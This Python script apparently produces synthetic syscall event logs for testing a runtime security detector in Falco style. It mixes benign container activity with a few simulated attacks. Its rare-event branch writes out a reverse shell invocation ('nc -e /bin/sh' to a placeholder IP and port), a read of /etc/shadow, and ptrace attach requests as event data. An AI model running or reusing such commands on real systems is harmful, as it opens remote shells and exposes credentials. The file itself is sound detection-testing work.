#!/usr/bin/env python3
"""Writes N syscall events in Bulkhead's replay format (docs/runtime-events.md): a realistic
mix for a busy container host (opens, execs, connects, file-system changes, ptrace, module
loads), mostly benign with a small share of attacks the stable Falco rules describe.
Deterministic for a given seed. Usage: gen_events.py N OUT [SEED]"""
import json, random, sys

n, out = int(sys.argv[1]), sys.argv[2]
rnd = random.Random(int(sys.argv[3]) if len(sys.argv) > 3 else 7)
T0 = 1764440000000000000

systemd = {"pid": 1, "name": "systemd", "exe": "/sbin/init", "exepath": "/usr/lib/systemd/systemd", "args": ["--system"]}
shim = {"pid": 900, "name": "containerd-shim", "exe": "/usr/bin/containerd-shim-runc-v2", "exepath": "/usr/bin/containerd-shim-runc-v2", "args": ["-namespace", "k8s.io"]}
sshd = {"pid": 912, "name": "sshd", "exe": "/usr/sbin/sshd", "exepath": "/usr/sbin/sshd", "args": ["-D"]}
containers = [
    {"id": "3ad7b26ded6d", "name": "web", "type": "containerd", "image": "docker.io/library/nginx:1.27", "privileged": False, "start_ts": T0 - 10**12},
    {"id": "9f8e7d6c5b4a", "name": "api", "type": "containerd", "image": "ghcr.io/acme/api:2.3.1", "privileged": False, "start_ts": T0 - 5 * 10**11},
    {"id": "0a1b2c3d4e5f", "name": "worker", "type": "cri-o", "image": "quay.io/acme/worker:7", "privileged": True, "start_ts": T0 - 10**11},
]
apps = [("nginx", "/usr/sbin/nginx", ["-g", "daemon off;"]), ("python3", "/usr/bin/python3.11", ["/app/server.py"]),
        ("node", "/usr/local/bin/node", ["/srv/index.js"]), ("java", "/opt/java/bin/java", ["-jar", "/app/app.jar"])]
benign_files = ["/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6", "/usr/lib/locale/locale-archive", "/etc/hosts",
                "/etc/resolv.conf", "/etc/nsswitch.conf", "/app/config.yaml", "/var/log/nginx/access.log",
                "/proc/self/status", "/sys/fs/cgroup/cpu.max", "/tmp/upload-%d", "/usr/share/zoneinfo/UTC",
                "/srv/static/index.html", "/etc/passwd", "/etc/group"]
shell_cmds = [("ls", "/usr/bin/ls", ["-la"]), ("cat", "/usr/bin/cat", ["/app/config.yaml"]), ("grep", "/usr/bin/grep", ["error", "/var/log/app.log"]),
              ("ps", "/usr/bin/ps", ["aux"]), ("curl", "/usr/bin/curl", ["-s", "http://localhost:8080/health"]), ("date", "/usr/bin/date", [])]

def proc(pid, name, exepath, args, parent, tty=0, cwd="/"):
    return {"pid": pid, "ppid": parent["pid"], "vpid": pid % 1000 + 1, "sid": parent["pid"], "vpgid": pid % 1000 + 1,
            "name": name[:15], "exe": name, "exepath": exepath, "args": args, "cwd": cwd, "tty": tty,
            "start_ts": T0 - rnd.randint(10**9, 10**12), "cap_effective": ["CAP_CHOWN", "CAP_NET_BIND_SERVICE"]}

def base(i, typ, p, ancestors, c, user=("root", 0)):
    e = {"type": typ, "ts": T0 + i * 1000, "num": i + 1, "proc": p, "ancestors": ancestors,
         "user": {"uid": user[1], "name": user[0], "loginuid": -1}, "group": {"gid": user[1], "name": user[0]}}
    if c is not None:
        e["container"] = c
    return e

def event(i):
    c = rnd.choice(containers + [None])
    app = rnd.choice(apps)
    parent = shim if c else systemd
    pid = rnd.randint(2000, 60000)
    p = proc(pid, app[0], app[1], app[2], parent)
    anc = [parent, systemd] if c else [systemd]
    r = rnd.random()
    if r < 0.45:  # file opens
        f = rnd.choice(benign_files)
        if "%d" in f:
            f = f % rnd.randint(1, 99999)
        write = rnd.random() < 0.2
        flags = "O_WRONLY|O_CREAT|O_TRUNC" if write else "O_RDONLY|O_CLOEXEC"
        e = base(i, rnd.choice(["openat", "openat", "open"]), p, anc, c)
        e["res"] = 5
        e["args"] = {"fd": 5, "dirfd": -100, "name": f, "flags": flags, "mode": 0}
        e["fd"] = {"num": 5, "type": "file", "name": f}
        return e
    if r < 0.70:  # process execs (shells from apps and from ssh sessions)
        cmd = rnd.choice(shell_cmds)
        sh = proc(pid - 1, "bash", "/usr/bin/bash", [], parent, tty=34816 if rnd.random() < 0.1 else 0)
        child = proc(pid, cmd[0], cmd[1], cmd[2], sh, tty=sh["tty"])
        a = [sh] + ([parent, systemd] if c else [sshd, systemd])
        e = base(i, rnd.choice(["execve", "execve", "execveat"]), child, a, c)
        e["res"] = 0
        e["args"] = {"filename": cmd[1], "flags": "EXE_WRITABLE" if rnd.random() < 0.05 else "0"}
        return e
    if r < 0.85:  # network
        e = base(i, rnd.choice(["connect", "accept4", "sendto"]), p, anc, c)
        e["res"] = 0
        port = rnd.choice([443, 80, 5432, 6379, 8080, 22, 2222])
        e["fd"] = {"num": 7, "type": "ipv4", "l4proto": "tcp", "cip": "10.1.%d.%d" % (rnd.randint(0, 9), rnd.randint(1, 250)),
                   "cport": rnd.randint(30000, 60000), "sip": rnd.choice(["10.96.0.1", "93.184.216.34", "172.17.0.3", "8.8.8.8"]),
                   "sport": port, "connected": True}
        e["args"] = {"fd": 7}
        return e
    if r < 0.95:  # file-system changes
        typ = rnd.choice(["unlinkat", "renameat2", "mkdirat", "symlinkat", "linkat", "chmod"])
        e = base(i, typ, p, anc, c)
        e["res"] = 0
        path = "/tmp/cache-%d" % rnd.randint(1, 10**6)
        if typ in ("renameat2", "linkat"):
            e["args"] = {"oldpath": path, "newpath": path + ".new"}
        elif typ == "symlinkat":
            e["args"] = {"target": path, "linkpath": path + ".lnk"}
        else:
            e["args"] = {"name": path, "path": path}
        return e
    # the rest: rare syscalls, some of them attacks
    kind = rnd.random()
    if kind < 0.3:
        e = base(i, "ptrace", p, anc, c)
        e["res"] = 0
        e["args"] = {"request": rnd.choice(["PTRACE_ATTACH", "PTRACE_PEEKDATA", "PTRACE_TRACEME"]), "pid": 4242}
        return e
    if kind < 0.5:
        cat = proc(pid, "cat", "/usr/bin/cat", ["/etc/shadow"], p)
        e = base(i, "openat", cat, [p] + anc, c)
        e["res"] = 3
        e["args"] = {"fd": 3, "name": "/etc/shadow", "flags": "O_RDONLY", "mode": 0}
        e["fd"] = {"num": 3, "type": "file", "name": "/etc/shadow"}
        return e
    if kind < 0.7:
        nc = proc(pid, "nc", "/usr/bin/nc", ["-e", "/bin/sh", "1.2.3.4", "4444"], p)
        e = base(i, "execve", nc, [p] + anc, c)
        e["res"] = 0
        e["args"] = {"filename": "/usr/bin/nc"}
        return e
    e = base(i, rnd.choice(["close", "read", "write", "mmap", "fstat"]), p, anc, c)
    e["res"] = 0
    return e

with open(out, "w") as f:
    for i in range(n):
        f.write(json.dumps(event(i), separators=(",", ":")) + "\n")
